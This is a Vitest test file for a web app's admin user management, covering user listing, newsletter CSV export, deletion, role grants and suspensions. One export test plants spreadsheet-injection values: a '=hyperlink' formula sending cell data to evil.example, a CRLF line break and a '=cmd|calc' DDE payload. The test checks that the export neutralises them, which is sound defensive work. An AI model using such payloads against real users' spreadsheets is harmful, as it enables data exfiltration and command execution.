import { existsSync } from 'node:fs';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import sharp from 'sharp';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { ADMIN_USER_LIMITS, ADMIN_USER_REFUSALS, suspendedMessage } from '../../../domain/admin-users';
import { totp } from '../../../../tests/e2e/totp';
import { configuredAdmin } from '../../config';
import { bootstrapAdmin } from '../accounts/bootstrap-admin';
import { channels } from '../../realtime/channels';
import { adminUsersChannels } from './admin-users.channels';
import { testUser, trpcAs, type TestUser } from '../../testing/marketplace';
import {
  ADMIN_TEST_PASSWORD,
  callTrpc,
  cookieHeader,
  createTestApp,
  nextEvent,
  signIn,
  signInAdmin,
  STRONG_PASSWORD,
  TEST_ORIGIN,
  uniqueEmail,
  unlimitedMutations,
  upload,
  type TestApp,
} from '../../testing/test-app';
import { ADMIN_USERS_MESSAGES } from './admin-users-refusals';
import type * as CurrentSuspension from './current-suspension';
import { watchAdminUsers, type AdminUsersStreamEvent } from './watch-admin-users';

/**
 * A gate in the sign-in's suspension check: the real read runs, then the test may act before the
 * answer goes back, exactly where a suspension could commit between the check and better-auth's insert. The
 * database is the real one; only the moment is chosen.
 */
const suspensionGate = vi.hoisted(() => ({ at: null as null | ((userId: string) => Promise<void>) }));
vi.mock('./current-suspension', async (importOriginal) => {
  const real = await importOriginal<typeof CurrentSuspension>();
  return {
    ...real,
    suspensionRefusingSignIn: async (...args: Parameters<typeof real.suspensionRefusingSignIn>) => {
      const found = await real.suspensionRefusingSignIn(...args);
      const gate = suspensionGate.at;
      if (gate) await gate(args[1]);
      return found;
    },
  };
});

let app: TestApp;
let admin: TestUser;
const { call, callRaw, ok } = trpcAs(() => app);

beforeAll(async () => {
  app = await createTestApp(
    { ADMIN_EMAIL: uniqueEmail('admin'), ADMIN_PASSWORD: ADMIN_TEST_PASSWORD },
    { mutationLimiter: unlimitedMutations },
  );
  admin = await signInAdmin(app);
});
afterAll(() => app?.close());

const db = () => app.database.db;

async function rows<T extends Record<string, unknown>>(query: ReturnType<typeof sql>) {
  return (await db().execute<T>(query)).rows;
}

async function auditCount() {
  const [row] = await rows<{ n: number }>(sql`select count(*)::int as n from audit_events`);
  return Number(row!.n);
}

async function auditOf(subjectId: string) {
  return rows<{ action: string; actor_id: string; details: Record<string, unknown> }>(
    sql`select action, actor_id, details from audit_events where subject_id = ${subjectId} order by created_at, id`,
  );
}

/** Is this cookie still a signed-in session? */
async function signedIn(cookie: string) {
  return (await callTrpc(app, 'accounts.me', { cookie })).data != null;
}

/** Users inserted directly (no password hashing), joined at the given instants: for paging and ordering. */
async function insertUsers(prefix: string, count: number, start = Date.parse('2020-01-01T00:00:00Z')) {
  const ids: string[] = [];
  for (let i = 0; i < count; i++) {
    const id = randomUUID();
    ids.push(id);
    const at = new Date(start + i * 1000).toISOString();
    await db().execute(sql`insert into users (id, name, email, created_at, updated_at)
      values (${id}, ${`${prefix} ${i}`}, ${`${prefix}-${i}@example.com`}, ${at}::timestamptz, now())`);
  }
  return ids;
}

async function newsletter(email: string, isActive = true) {
  await db().execute(sql`insert into newsletter_subscriptions (email, is_active) values (${email}, ${isActive})`);
}

async function secondAdmin(): Promise<TestUser> {
  const other = await testUser(app, { firstName: 'Second', lastName: 'Admin' });
  await ok(admin, 'adminUsers.setAdmin', { userId: other.id, admin: true, reason: 'Testing' });
  return other;
}

describe('adminUsers.list', () => {
  it('shows registered users newest first with the spec’s columns, never a newsletter-only entry', async () => {
    const member = await testUser(app, { firstName: 'Lena', lastName: 'List' });
    await newsletter(uniqueEmail('only-newsletter'));
    const { items } = await ok(admin, 'adminUsers.list', {});
    expect(items[0]).toEqual({
      id: member.id,
      name: 'Lena List',
      email: member.email,
      joinedAt: expect.any(String),
      lastSignInAt: expect.any(String),
      subscribed: false,
      isAdmin: false,
      suspension: null,
      isSelf: false,
    });
    expect(items.some((u) => u.email.startsWith('only-newsletter'))).toBe(false);
    const self = items.find((u) => u.id === admin.id)!;
    expect(self).toMatchObject({ isSelf: true, isAdmin: true });
    const joined = items.map((u) => Date.parse(u.joinedAt));
    expect(joined).toEqual([...joined].sort((a, b) => b - a));
  });

  it('matches the newsletter case-insensitively and only active subscriptions count', async () => {
    const member = await testUser(app);
    const shouting = member.email.toUpperCase();
    await db().execute(sql`update users set email = ${shouting} where id = ${member.id}`);
    await newsletter(member.email.toLowerCase());
    const lapsed = await testUser(app);
    await newsletter(lapsed.email, false);
    const { items } = await ok(admin, 'adminUsers.list', {});
    expect(items.find((u) => u.id === member.id)).toMatchObject({ email: shouting, subscribed: true });
    expect(items.find((u) => u.id === lapsed.id)).toMatchObject({ subscribed: false });
  });

  it('says Never (null) for a user without any sign-in', async () => {
    const [id] = await insertUsers(`never-${randomUUID().slice(0, 6)}`, 1, Date.now() + 60_000);
    const { items } = await ok(admin, 'adminUsers.list', {});
    expect(items.find((u) => u.id === id)).toMatchObject({ lastSignInAt: null });
  });

  it('pages by keyset: every user once, in order, pages of the page size', async () => {
    const prefix = `page-${randomUUID().slice(0, 6)}`;
    const ids = await insertUsers(prefix, ADMIN_USER_LIMITS.pageSize + 3);
    const seen: string[] = [];
    let cursor: { joinedAt: string; id: string } | null = null;
    let pages = 0;
    do {
      const page: Awaited<ReturnType<typeof listPage>> = await listPage(prefix, cursor);
      expect(page.items.length).toBeLessThanOrEqual(ADMIN_USER_LIMITS.pageSize);
      seen.push(...page.items.map((u) => u.id));
      cursor = page.nextCursor;
      pages += 1;
    } while (cursor && pages < 10);
    expect(pages).toBe(2);
    expect(seen).toEqual([...ids].reverse());
  });

  const listPage = (search: string, cursor: { joinedAt: string; id: string } | null) =>
    ok(admin, 'adminUsers.list', { search, cursor });

  it('keeps users that joined in the same millisecond apart (the cursor keeps microseconds)', async () => {
    const prefix = `micro-${randomUUID().slice(0, 6)}`;
    const ids = await insertUsers(prefix, ADMIN_USER_LIMITS.pageSize + 1);
    // All in one millisecond, a microsecond apart.
    await db().execute(sql`update users set created_at = timestamptz '2019-05-05 10:00:00.123000+00'
      + (cast(split_part(name, ' ', 2) as int) * interval '1 microsecond') where name like ${`${prefix} %`}`);
    const first = await listPage(prefix, null);
    const second = await listPage(prefix, first.nextCursor);
    expect([...first.items, ...second.items].map((u) => u.id)).toEqual([...ids].reverse());
    expect(second.nextCursor).toBeNull();
  });

  it('searches part of a name or an email, case-insensitively, with LIKE’s wildcards taken literally', async () => {
    const tag = randomUUID().slice(0, 6);
    const a = await testUser(app, { firstName: 'Zebedee', lastName: `Quux${tag}` });
    const b = await testUser(app, { email: `odd_${tag}.mail@example.com` });
    expect((await ok(admin, 'adminUsers.list', { search: `zebedee quux${tag}` })).items.map((u) => u.id)).toEqual([
      a.id,
    ]);
    expect((await ok(admin, 'adminUsers.list', { search: `QUUX${tag}` })).items.map((u) => u.id)).toEqual([a.id]);
    // As wildcards, "_" would also match the x before the tag in Quux{tag}, and "%" everyone with the tag.
    expect((await ok(admin, 'adminUsers.list', { search: `_${tag}` })).items.map((u) => u.id)).toEqual([b.id]);
    expect((await ok(admin, 'adminUsers.list', { search: `%${tag}` })).items).toEqual([]);
  });

  it('refuses an oversized search and a malformed cursor', async () => {
    const long = await call(admin, 'adminUsers.list', { search: 'x'.repeat(ADMIN_USER_LIMITS.searchMax + 1) });
    expect(long.status).toBe(400);
    const bad = await call(admin, 'adminUsers.list', { cursor: { joinedAt: 'yesterday', id: 'x' } });
    expect(bad.status).toBe(400);
  });
});

describe('newsletter-only subscriptions and the export', () => {
  it('lists active subscriptions of addresses without an account, never a member’s, newest first', async () => {
    const only = uniqueEmail('only');
    await newsletter(only);
    await newsletter(uniqueEmail('inactive'), false);
    const member = await testUser(app);
    // A member's subscription, stored with another case than the account's email.
    await newsletter(member.email.toUpperCase());
    const { items } = await ok(admin, 'adminUsers.newsletterOnly', {});
    expect(items[0]).toMatchObject({ email: only });
    expect(items.some((s) => s.email.toLowerCase() === member.email.toLowerCase())).toBe(false);
    expect(items.some((s) => s.email.startsWith('inactive'))).toBe(false);
  });

  it('pages by keyset', async () => {
    await db().execute(sql`insert into newsletter_subscriptions (email, subscribed_at)
      select 'bulk-' || g || '@example.org', timestamptz '2018-01-01' + g * interval '1 second'
      from generate_series(1, ${ADMIN_USER_LIMITS.subscribersPageSize + 5}) g`);
    const seen = new Set<string>();
    let cursor: { subscribedAt: string; id: string } | null = null;
    let pages = 0;
    do {
      const page: Awaited<ReturnType<typeof nextPage>> = await nextPage(cursor);
      for (const s of page.items) {
        expect(seen.has(s.id)).toBe(false);
        seen.add(s.id);
      }
      cursor = page.nextCursor;
      pages += 1;
    } while (cursor && pages < 20);
    const [active] = await rows<{ n: number }>(sql`select count(*)::int as n from newsletter_subscriptions n
      where is_active and not exists (select 1 from users u where lower(u.email) = lower(n.email))`);
    expect(seen.size).toBe(Number(active!.n));
  });
  const nextPage = (cursor: { subscribedAt: string; id: string } | null) =>
    ok(admin, 'adminUsers.newsletterOnly', { cursor });

  it('leaves out stored values that would add lines or a formula, and quotes a formula-like address', async () => {
    const planted = 'kid@example.com\r\n=hyperlink("http://evil.example/?"&a1,"click")@x\r\nplanted@evil.example';
    await newsletter(planted);
    await newsletter('=cmd|calc@x');
    const quoted = `-${randomUUID().slice(0, 6)}@example.com`;
    await newsletter(quoted);
    const { text, skipped } = await ok(admin, 'adminUsers.exportNewsletter');
    const lines = text.split('\n').filter(Boolean);
    expect(skipped).toBeGreaterThanOrEqual(2);
    expect(lines.some((l) => l.includes('hyperlink') || l.includes('planted@') || l.includes('cmd|calc'))).toBe(false);
    expect(lines).toContain(`'${quoted}`);
    expect(lines.every((l) => !/^[=+\-@\t]/.test(l))).toBe(true);
    await db().execute(sql`delete from newsletter_subscriptions where email in (${planted}, '=cmd|calc@x', ${quoted})`);
  });

  it('exports exactly the active subscriptions’ emails, one per line, sorted', async () => {
    const text = (await ok(admin, 'adminUsers.exportNewsletter')).text;
    const expected = await rows<{ email: string }>(
      sql`select email from newsletter_subscriptions where is_active order by email collate "C"`,
    );
    expect(text.split('\n').filter(Boolean)).toEqual(expected.map((r) => r.email));
    expect(text.endsWith('\n')).toBe(true);
  });
});

describe('adminUsers.delete', () => {
  it('removes the account as Delete Account does: files, content, sessions (announced), audited with the email', async () => {
    const victim = await testUser(app, { firstName: 'Doomed' });
    const png = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#123' } })
      .png()
      .toBuffer();
    const avatar = await upload(app, 'avatar', png, { cookie: victim.cookie });
    const file = path.join(app.uploadsDir, avatar.json.avatarUrl!.slice('/files/'.length));
    expect(existsSync(file)).toBe(true);
    await ok(victim, 'feedback.submit', { title: 'Hello', category: 'General', message: 'Something' });
    const [session] = await rows<{ id: string }>(sql`select id from sessions where user_id = ${victim.id}`);
    const ended = nextEvent(app, channels.sessionEnded, (e) => e.sessionId === session!.id);
    const removed = nextEvent(
      app,
      adminUsersChannels.adminUsers,
      (e) => e.type === 'user-removed' && e.userId === victim.id,
    );

    const result = await ok(admin, 'adminUsers.delete', { userId: victim.id, reason: 'Spam account' });
    expect(result).toEqual({ ok: true, email: victim.email });
    await ended;
    await removed;
    expect(await rows(sql`select 1 from users where id = ${victim.id}`)).toHaveLength(0);
    expect(await rows(sql`select 1 from profiles where id = ${victim.id}`)).toHaveLength(0);
    expect(await rows(sql`select 1 from feedback where user_id = ${victim.id}`)).toHaveLength(0);
    expect(existsSync(file)).toBe(false);
    expect(await signedIn(victim.cookie)).toBe(false);
    expect((await signIn(app, victim.email, STRONG_PASSWORD)).response.statusCode).toBe(401);
    expect(await auditOf(victim.id)).toEqual([
      { action: 'user.deleted', actor_id: admin.id, details: { email: victim.email, reason: 'Spam account' } },
    ]);
    const [event] = await rows<{ payload: unknown }>(
      sql`select payload from domain_events where type = 'user.deleted' and payload ->> 'userId' = ${victim.id}`,
    );
    expect(event).toBeDefined();
  });

  it('refuses oneself and an unknown user, writes nothing', async () => {
    const before = await auditCount();
    const self = await call(admin, 'adminUsers.delete', { userId: admin.id, reason: 'Testing' });
    expect(self.status).toBe(403);
    expect(self.error?.message).toBe(ADMIN_USERS_MESSAGES.deleteSelf);
    const unknown = await call(admin, 'adminUsers.delete', { userId: randomUUID(), reason: 'Testing' });
    expect(unknown.status).toBe(404);
    expect(await signedIn(admin.cookie)).toBe(true);
    expect(await auditCount()).toBe(before);
  });

  it('an admin is not deleted (remove the role first, audited), then may be; a member may not delete anyone', async () => {
    const other = await secondAdmin();
    const member = await testUser(app);
    expect((await call(member, 'adminUsers.delete', { userId: other.id, reason: 'Testing' })).status).toBe(403);
    const before = await auditCount();
    const refused = await call(admin, 'adminUsers.delete', { userId: other.id, reason: 'Testing' });
    expect(refused.status).toBe(409);
    expect(refused.error?.message).toBe(ADMIN_USERS_MESSAGES.deleteAdmin);
    expect(await signedIn(other.cookie)).toBe(true);
    expect(await auditCount()).toBe(before);
    await ok(admin, 'adminUsers.setAdmin', { userId: other.id, admin: false, reason: 'Leaving' });
    await ok(admin, 'adminUsers.delete', { userId: other.id, reason: 'Left the school' });
    expect(await rows(sql`select 1 from users where id = ${other.id}`)).toHaveLength(0);
  });

  it('requires a reason for delete, setAdmin and unsuspend, and changes nothing without one', async () => {
    const member = await testUser(app);
    const before = await auditCount();
    for (const [path, input] of [
      ['adminUsers.delete', { userId: member.id }],
      ['adminUsers.delete', { userId: member.id, reason: '  ' }],
      ['adminUsers.setAdmin', { userId: member.id, admin: true }],
      ['adminUsers.unsuspend', { userId: member.id, reason: '' }],
    ] as const) {
      expect((await callRaw(admin, path, input)).status, path).toBe(400);
    }
    expect(await signedIn(member.cookie)).toBe(true);
    expect(await rows(sql`select 1 from user_roles where user_id = ${member.id}`)).toHaveLength(0);
    expect(await auditCount()).toBe(before);
  });
});

describe('adminUsers.setAdmin', () => {
  it('grants and removes the role, audited, with user.role-changed; the new admin can act at once', async () => {
    const member = await testUser(app);
    expect((await call(member, 'adminUsers.list', {})).status).toBe(403);
    const changed = nextEvent(
      app,
      adminUsersChannels.adminUsers,
      (e) => e.type === 'user-changed' && e.userId === member.id,
    );
    expect(await ok(admin, 'adminUsers.setAdmin', { userId: member.id, admin: true, reason: 'Moderator' })).toEqual({
      ok: true,
      changed: true,
    });
    await changed;
    expect((await call(member, 'adminUsers.list', {})).status).toBe(200);
    await ok(admin, 'adminUsers.setAdmin', { userId: member.id, admin: false, reason: 'Testing' });
    expect((await call(member, 'adminUsers.list', {})).status).toBe(403);
    expect((await auditOf(member.id)).map((a) => [a.action, a.actor_id, a.details])).toEqual([
      ['admin.role-granted', admin.id, { reason: 'Moderator' }],
      ['admin.role-revoked', admin.id, { reason: 'Testing' }],
    ]);
    const events = await rows<{ admin: boolean }>(
      sql`select (payload ->> 'admin')::boolean as admin from domain_events
          where type = 'user.role-changed' and payload ->> 'userId' = ${member.id} order by id`,
    );
    expect(events.map((e) => e.admin)).toEqual([true, false]);
  });

  it('granting an admin or removing a non-admin changes nothing and records nothing', async () => {
    const member = await testUser(app);
    const before = await auditCount();
    expect(await ok(admin, 'adminUsers.setAdmin', { userId: member.id, admin: false, reason: 'Testing' })).toEqual({
      ok: true,
      changed: false,
    });
    expect(await ok(admin, 'adminUsers.setAdmin', { userId: admin.id, admin: true, reason: 'Testing' })).toMatchObject({
      changed: false,
    });
    expect(await auditCount()).toBe(before);
  });

  it('refuses removing one’s own role (the last admin’s too), and granting a suspended user', async () => {
    const before = await auditCount();
    const self = await call(admin, 'adminUsers.setAdmin', { userId: admin.id, admin: false, reason: 'Testing' });
    expect(self.status).toBe(403);
    expect(self.error?.message).toBe(ADMIN_USERS_MESSAGES.demoteSelf);
    const member = await testUser(app);
    await ok(admin, 'adminUsers.suspend', { userId: member.id, days: 3, reason: 'Cooling off' });
    const afterSuspend = await auditCount();
    const grant = await call(admin, 'adminUsers.setAdmin', { userId: member.id, admin: true, reason: 'Testing' });
    expect(grant.status).toBe(409);
    expect(grant.error?.message).toBe(ADMIN_USERS_MESSAGES.grantSuspended);
    expect(await rows(sql`select 1 from user_roles where user_id = ${member.id}`)).toHaveLength(0);
    expect(await auditCount()).toBe(afterSuspend);
    expect(afterSuspend).toBe(before + 1);
    expect(await rows(sql`select 1 from user_roles where user_id = ${admin.id} and role = 'admin'`)).toHaveLength(1);
  });

  it('refuses granting the role to a minor or to someone without a date of birth, and says why', async () => {
    const minor = await testUser(app, { dateOfBirth: '2013-05-01' });
    const unknown = await testUser(app);
    await db().execute(sql`update profiles set date_of_birth = null where id = ${unknown.id}`);
    const before = await auditCount();
    for (const who of [minor, unknown]) {
      const grant = await call(admin, 'adminUsers.setAdmin', { userId: who.id, admin: true, reason: 'Helper' });
      expect(grant.status).toBe(409);
      expect(grant.error?.message).toBe(ADMIN_USER_REFUSALS.grantNotAdult);
      expect(await rows(sql`select 1 from user_roles where user_id = ${who.id}`)).toHaveLength(0);
    }
    expect(await auditCount()).toBe(before);
  });

  it('two admins removing each other at once leave one admin, never none', async () => {
    const a = await secondAdmin();
    const b = await secondAdmin();
    const results = await Promise.all([
      call(a, 'adminUsers.setAdmin', { userId: b.id, admin: false, reason: 'Testing' }),
      call(b, 'adminUsers.setAdmin', { userId: a.id, admin: false, reason: 'Testing' }),
    ]);
    expect(results.map((r) => r.status).sort()).toEqual([200, 403]);
    const left = await rows(sql`select 1 from user_roles where user_id in (${a.id}, ${b.id}) and role = 'admin'`);
    expect(left).toHaveLength(1);
  });
});

describe('the bootstrapped admin stays the way in', () => {
  it('removed by an admin they made, a restart gives the role back without touching sessions or two-factor', async () => {
    const adminEmail = uniqueEmail('boot');
    const own = await createTestApp({ ADMIN_EMAIL: adminEmail, ADMIN_PASSWORD: ADMIN_TEST_PASSWORD });
    try {
      const ownCall = trpcAs(own);
      const a = await signInAdmin(own);
      const b = await testUser(own, { firstName: 'Bea' });
      await ownCall.ok(a, 'adminUsers.setAdmin', { userId: b.id, admin: true, reason: 'Testing' });
      await ownCall.ok(b, 'adminUsers.setAdmin', { userId: a.id, admin: false, reason: 'Testing' });
      expect((await ownCall.call(a, 'adminUsers.list', {})).status).toBe(403);
      // Two-factor as the owner would have it (the flag is what a reset would clear).
      await own.database.db.execute(sql`update users set two_factor_enabled = true where id = ${a.id}`);

      await bootstrapAdmin(own.database.db, own.auth, own.bus, configuredAdmin(own.config));

      expect((await ownCall.call(a, 'adminUsers.list', {})).status).toBe(200);
      const [flag] = (
        await own.database.db.execute<{ on: boolean }>(
          sql`select two_factor_enabled as on from users where id = ${a.id}`,
        )
      ).rows;
      expect(flag!.on).toBe(true);
      // B keeps the role they were given: a grant is not the bootstrap's business.
      expect((await ownCall.call(b, 'adminUsers.list', {})).status).toBe(200);
    } finally {
      await own.close();
    }
  });
});

describe('suspensions', () => {
  it('ends every session at once and refuses sign-in with the end date and the reason', async () => {
    const member = await testUser(app);
    const laptop = await signIn(app, member.email, STRONG_PASSWORD);
    const sessionIds = (await rows<{ id: string }>(sql`select id from sessions where user_id = ${member.id}`)).map(
      (s) => s.id,
    );
    expect(sessionIds).toHaveLength(2);
    const ended = sessionIds.map((id) => nextEvent(app, channels.sessionEnded, (e) => e.sessionId === id));

    const { until } = await ok(admin, 'adminUsers.suspend', { userId: member.id, days: 7, reason: 'Rude messages' });
    await Promise.all(ended);
    expect(Date.parse(until!) - Date.now()).toBeGreaterThan(6.9 * 24 * 3600_000);
    expect(await signedIn(member.cookie)).toBe(false);
    expect(await signedIn(laptop.cookie)).toBe(false);

    const refused = await signIn(app, member.email, STRONG_PASSWORD);
    expect(refused.response.statusCode).toBe(403);
    expect(refused.response.json()).toMatchObject({
      code: 'ACCOUNT_SUSPENDED',
      message: suspendedMessage(new Date(until!), 'Rude messages'),
    });
    expect(refused.response.json().message).toMatch(/^Your account is suspended until \w+ \d+, \d{4}\. Reason: /);
    expect(refused.cookie).not.toMatch(/session_token=[^;]/);
    expect(await rows(sql`select 1 from sessions where user_id = ${member.id}`)).toHaveLength(0);
    // Someone without the password learns nothing.
    expect((await signIn(app, member.email, 'Wrong-pass-1!')).response.statusCode).toBe(401);

    const { items } = await ok(admin, 'adminUsers.list', {});
    expect(items.find((u) => u.id === member.id)?.suspension).toEqual({ until, reason: 'Rude messages' });
    // Their sessions are gone, but when they last signed in is not forgotten.
    expect(items.find((u) => u.id === member.id)?.lastSignInAt).not.toBeNull();
    expect(await auditOf(member.id)).toEqual([
      {
        action: 'user.suspended',
        actor_id: admin.id,
        details: { reason: 'Rude messages', until, reviewedPollIds: [] },
      },
    ]);
    const [event] = await rows<{ payload: Record<string, unknown> }>(
      sql`select payload from domain_events where type = 'user.suspended' and payload ->> 'userId' = ${member.id}`,
    );
    expect(event!.payload).toEqual({ actorId: admin.id, userId: member.id, until });
  });

  it('an indefinite suspension says so; lifting it lets them in again, audited', async () => {
    const member = await testUser(app);
    await ok(admin, 'adminUsers.suspend', { userId: member.id, days: null, reason: 'Under review' });
    const refused = await signIn(app, member.email, STRONG_PASSWORD);
    expect(refused.response.statusCode).toBe(403);
    expect(refused.response.json().message).toBe(
      'Your account is suspended until further notice. Reason: Under review',
    );
    await ok(admin, 'adminUsers.unsuspend', { userId: member.id, reason: 'Testing' });
    expect((await signIn(app, member.email, STRONG_PASSWORD)).response.statusCode).toBe(200);
    expect((await auditOf(member.id)).map((a) => a.action)).toEqual(['user.suspended', 'user.unsuspended']);
    expect((await auditOf(member.id))[1]!.details).toEqual({ until: null, reason: 'Testing' });
    expect((await ok(admin, 'adminUsers.list', {})).items.find((u) => u.id === member.id)?.suspension).toBeNull();
    const again = await call(admin, 'adminUsers.unsuspend', { userId: member.id, reason: 'Testing' });
    expect(again.status).toBe(409);
  });

  it('an expired suspension blocks nothing and is not shown', async () => {
    const member = await testUser(app);
    await ok(admin, 'adminUsers.suspend', { userId: member.id, days: 1, reason: 'Short' });
    await db().execute(
      sql`update user_suspensions set until = now() - interval '1 minute' where user_id = ${member.id}`,
    );
    expect((await signIn(app, member.email, STRONG_PASSWORD)).response.statusCode).toBe(200);
    expect((await ok(admin, 'adminUsers.list', {})).items.find((u) => u.id === member.id)?.suspension).toBeNull();
    // Suspending again replaces the old row.
    await ok(admin, 'adminUsers.suspend', { userId: member.id, days: 30, reason: 'Again' });
    expect((await signIn(app, member.email, STRONG_PASSWORD)).response.statusCode).toBe(403);
  });

  it('also refuses the second step of a two-factor sign-in', async () => {
    const member = await testUser(app);
    const post = (url: string, cookie: string, payload: unknown) =>
      app.server.inject({
        method: 'POST',
        url,
        headers: { origin: TEST_ORIGIN, 'content-type': 'application/json', cookie },
        payload: JSON.stringify(payload),
      });
    const enabled = await post('/api/auth/two-factor/enable', member.cookie, { password: STRONG_PASSWORD });
    expect(enabled.statusCode, enabled.body).toBe(200);
    const secret = new URL(enabled.json().totpURI).searchParams.get('secret')!;
    expect((await post('/api/auth/two-factor/verify-totp', member.cookie, { code: totp(secret) })).statusCode).toBe(
      200,
    );
    // The password step passes before the suspension, the code comes after it.
    const first = await signIn(app, member.email, STRONG_PASSWORD);
    expect(first.response.json()).toMatchObject({ twoFactorRedirect: true });
    await ok(admin, 'adminUsers.suspend', { userId: member.id, days: 3, reason: 'Two steps' });
    const second = await post('/api/auth/two-factor/verify-totp', first.cookie, { code: totp(secret) });
    expect(second.statusCode).toBe(403);
    expect(second.json()).toMatchObject({ code: 'ACCOUNT_SUSPENDED' });
    expect(cookieHeader(second)).not.toMatch(/session_token=[^;]/);
    expect(await rows(sql`select 1 from sessions where user_id = ${member.id}`)).toHaveLength(0);
    // The password step alone gives the dates, never the admin's words; the code step gives both.
    const passwordOnly = await signIn(app, member.email, STRONG_PASSWORD);
    expect(passwordOnly.response.statusCode).toBe(403);
    expect(passwordOnly.response.json().message).toMatch(/^Your account is suspended until \w+ \d+, \d{4}\.$/);
    expect(second.json().message).toContain('Reason: Two steps');
  });

  it('a sign-in racing a suspension gets no session: the check is made again once it exists', async () => {
    const member = await testUser(app);
    let reason = '';
    // The gate: the sign-in's first check has just passed; the whole suspension runs and commits right then,
    // before better-auth inserts the session.
    suspensionGate.at = async (userId) => {
      if (userId !== member.id) return;
      suspensionGate.at = null;
      reason = 'Raced';
      await ok(admin, 'adminUsers.suspend', { userId: member.id, days: 2, reason });
    };
    const raced = await signIn(app, member.email, STRONG_PASSWORD);
    expect(reason).toBe('Raced');
    expect(raced.response.statusCode).toBe(403);
    expect(raced.response.json()).toMatchObject({ code: 'ACCOUNT_SUSPENDED' });
    expect(raced.response.json().message).toContain('Reason: Raced');
    expect(raced.cookie).not.toMatch(/session_token=[^;]/);
    expect(await rows(sql`select 1 from sessions where user_id = ${member.id}`)).toHaveLength(0);
    expect(await signedIn(member.cookie)).toBe(false);
  });

  it('refuses oneself, an admin and an unknown user, and writes nothing', async () => {
    const other = await secondAdmin();
    const before = await auditCount();
    const self = await call(admin, 'adminUsers.suspend', { userId: admin.id, days: 1, reason: 'x' });
    expect(self.status).toBe(403);
    expect(self.error?.message).toBe(ADMIN_USERS_MESSAGES.suspendSelf);
    const anAdmin = await call(admin, 'adminUsers.suspend', { userId: other.id, days: 1, reason: 'x' });
    expect(anAdmin.status).toBe(409);
    expect(anAdmin.error?.message).toBe(ADMIN_USERS_MESSAGES.suspendAdmin);
    expect((await call(admin, 'adminUsers.suspend', { userId: randomUUID(), days: 1, reason: 'x' })).status).toBe(404);
    for (const input of [
      { userId: other.id, days: 1, reason: '   ' },
      { userId: other.id, days: 0, reason: 'x' },
      { userId: other.id, days: ADMIN_USER_LIMITS.suspensionDaysMax + 1, reason: 'x' },
      { userId: other.id, days: 1, reason: 'x'.repeat(ADMIN_USER_LIMITS.reasonMax + 1) },
    ]) {
      expect((await call(admin, 'adminUsers.suspend', input)).status).toBe(400);
    }
    expect(await rows(sql`select 1 from user_suspensions where user_id in (${admin.id}, ${other.id})`)).toHaveLength(0);
    expect(await auditCount()).toBe(before);
    expect(await signedIn(other.cookie)).toBe(true);
  });
});

describe('adminUsers.events', () => {
  it('hands each admin the row after a sign-up, a suspension and a deletion, as that admin sees it', async () => {
    const controller = new AbortController();
    const received: AdminUsersStreamEvent[] = [];
    const stream = watchAdminUsers({ db: db(), bus: app.bus, user: { id: admin.id } }, { signal: controller.signal });
    const reading = (async () => {
      for await (const event of stream) {
        received.push(event.data);
        if (event.data.type === 'user-removed') break;
      }
    })();
    // The subscription is live once the generator has started reading the bus.
    await new Promise((resolve) => setTimeout(resolve, 50));
    const member = await testUser(app, { firstName: 'Live', lastName: 'Row' });
    await ok(admin, 'adminUsers.suspend', { userId: member.id, days: null, reason: 'Live' });
    await ok(admin, 'adminUsers.delete', { userId: member.id, reason: 'Testing' });
    await reading;
    controller.abort();
    const mine = received.filter((e) => e.userId === member.id);
    expect(mine[0]).toMatchObject({
      type: 'user-changed',
      user: { id: member.id, name: 'Live Row', email: member.email, isSelf: false, suspension: null },
    });
    expect(mine.some((e) => e.type === 'user-changed' && e.user.suspension?.reason === 'Live')).toBe(true);
    expect(mine.at(-1)).toEqual({ type: 'user-removed', userId: member.id });
  });

  it('the channel itself carries ids only (it may be PostgreSQL NOTIFY)', async () => {
    const member = await testUser(app);
    const event = nextEvent(app, adminUsersChannels.adminUsers, (e) => e.userId === member.id);
    await ok(admin, 'adminUsers.suspend', { userId: member.id, days: 1, reason: 'Private words' });
    expect(await event).toEqual({ type: 'user-changed', userId: member.id });
  });

  it('ends a demoted admin’s stream (the role is asked again as events flow)', async () => {
    const other = await secondAdmin();
    const stream = watchAdminUsers({ db: db(), bus: app.bus, user: { id: other.id } }, { recheckMs: 0 });
    const next = stream.next();
    await new Promise((resolve) => setTimeout(resolve, 50));
    await ok(admin, 'adminUsers.setAdmin', { userId: other.id, admin: false, reason: 'Testing' });
    await expect(next).rejects.toMatchObject({ code: 'ADMIN_ONLY' });
  });
});
